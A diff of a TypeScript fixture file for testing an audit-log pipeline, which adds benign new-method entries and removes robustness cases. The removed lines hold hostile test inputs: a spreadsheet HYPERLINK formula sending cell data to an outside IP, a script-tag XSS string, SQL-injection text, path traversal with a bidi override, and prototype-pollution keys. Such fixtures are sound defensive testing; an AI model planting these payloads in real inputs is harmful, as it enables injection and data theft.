@@ -1,12 +1,12 @@
-/** What an audit trail must survive: methods nobody has heard of, entries of somebody else, hostile text, wreckage. */
+/** What an audit trail must survive: methods nobody has heard of, and entries of somebody else. */
 import { audit } from './audit.ts';
+import { change } from './control/change.ts';
+import { auditEvent } from './databricks/record.ts';
 import { serviceAgent } from './callers.ts';
 import { CLUSTERS, PROJECTS, REGION, dataprocAgent } from './company.ts';
-import { simpleChange } from './dataproc-admin.ts';
-import { submitJob } from './dataproc-jobs.ts';
-import type { Draft, Subscription } from './entry.ts';
-import { pyspark } from './plan.ts';
-import { callOf, clock, endingOf, sceneOf } from './scene.ts';
+import { simpleChange } from './dataproc/admin.ts';
+import type { Draft, Told } from './entry.ts';
+import { callOf, clock, sceneOf } from './scene.ts';
 import type { Scene } from './scene.ts';
 
 /** A method that came after every reference. */
@@ -67,70 +67,31 @@ function unowned(scene: Scene): readonly Draft[] {
   return [...machines, cloudSql];
 }
 
-/** Text by an attacker in every field a caller may choose: escapes, bidi overrides, a formula, prototype keys, a path. */
-function hostile(scene: Scene): readonly Draft[] {
-  const at = clock('20:44:44');
-  const call = callOf(scene, at, 'ivo', 'dev');
-  return submitJob(
-    { ...call, caller: { ...call.caller, userAgent: '\u001b[2J\u001b[31mgcloud <script>alert(1)</script>' } },
-    {
-      id: 'ivo-report-2',
-      uuid: scene.random.uuid(),
-      cluster: CLUSTERS.dev,
-      work: pyspark('tmp/report.py', [
-        '--title==HYPERLINK("http://203.0.113.66/?"&A1,"totals")',
-        '--input=gs://acme-curated/../customers/\u202egpj.teuqrap',
-        `--note=${"'; DROP TABLE Events; --".repeat(8)}`,
-        '--password=correct-horse-battery',
-      ]),
-      labels: Object.fromEntries([
-        ['__proto__', 'polluted'],
-        ['constructor', 'polluted'],
-        ['team', 'severity=DEBUG\nseverity: INFO'],
-      ]),
-    },
-    endingOf(scene, at, 1300),
-  );
-}
-
-export const unheardOf = (scene: Scene): readonly Draft[] => newMethods(sceneOf(scene, 'new-methods'));
-export const unownedEntries = (scene: Scene): readonly Draft[] => unowned(sceneOf(scene, 'unowned'));
-export const hostileEntries = (scene: Scene): readonly Draft[] => hostile(sceneOf(scene, 'hostile'));
-
-interface Wreck {
-  readonly at: number;
-  readonly to: Subscription;
-  readonly data: string;
-}
-
-/** Messages that are no log entry, made from ones that were. */
-export function wrecks(whole: readonly string[]): readonly Wreck[] {
-  const [first = '', second = '', third = '', fourth = ''] = whole;
-  const cases: readonly (readonly [time: string, to: Subscription, data: string])[] = [
-    ['03:02:11', 'dataproc', first.slice(0, Math.floor(first.length * 0.6))],
-    ['06:45:20', 'istio', '\u0000\u0001\ufffd\ufffdJ\ufffd garbage, not base64 and not JSON'],
-    ['07:20:00', 'dataflow', ''],
-    ['09:09:09', 'dataproc', '"a sentence where an entry should be"'],
-    ['10:30:30', 'istio', '42'],
-    ['12:00:00', 'dataproc', second.replace(/"protoPayload":\{/, '"protoPayload":"lost","was":{')],
-    ['13:37:00', 'dataproc', second.replace(/"timestamp":"[^"]*"/, '"timestamp":1790000000')],
-    [
-      '15:15:15',
-      'dataflow',
-      third.replace(/"(timestamp|receiveTimestamp)":"[^"]*",?/g, '').replace(',}', '}'),
-    ],
-    ['16:40:00', 'istio', fourth.replace(/"timestamp":"[^"]*"/, '"timestamp":"yesterday, about noon"')],
-    [
-      '19:25:41',
-      'dataproc',
-      second
-        .replaceAll('"protoPayload"', '"protopayload"')
-        .replaceAll('"insertId"', '"insertid"')
-        .replaceAll('"logName"', '"logname"')
-        .replaceAll('"methodName"', '"methodname"'),
-    ],
-    ['21:05:05', 'istio', `${'{"a":'.repeat(3000)}1${'}'.repeat(3000)}`],
-    ['22:22:22', 'dataflow', '{"insertId":"only-this"}'],
+/** Services of the other sources grow too. */
+function newElsewhere(scene: Scene): readonly Told[] {
+  return [
+    auditEvent(scene, {
+      at: '16:16:16',
+      workspace: 'staging',
+      by: { email: 'farah@example.com', ip: '198.51.100.23', userAgent: 'Mozilla/5.0' },
+      method: 'jobs.simulateRun',
+      params: { job_id: '815302110984402' },
+    }),
+    change(scene, {
+      at: '16:18:00',
+      to: 'iam',
+      by: 'deployer',
+      project: PROJECTS.mesh,
+      service: 'iam.googleapis.com',
+      method: 'google.iam.admin.v1.RotateServiceAccountTrust',
+      resourceName: `projects/${PROJECTS.mesh.id}`,
+      permission: 'iam.serviceAccounts.update',
+    }),
   ];
-  return cases.map(([time, to, data]) => ({ at: clock(time), to, data }));
 }
+
+export const unheardOf = (scene: Scene): readonly Told[] => [
+  ...newMethods(sceneOf(scene, 'new-methods')),
+  ...newElsewhere(sceneOf(scene, 'new-elsewhere')),
+];
+export const unownedEntries = (scene: Scene): readonly Draft[] => unowned(sceneOf(scene, 'unowned'));
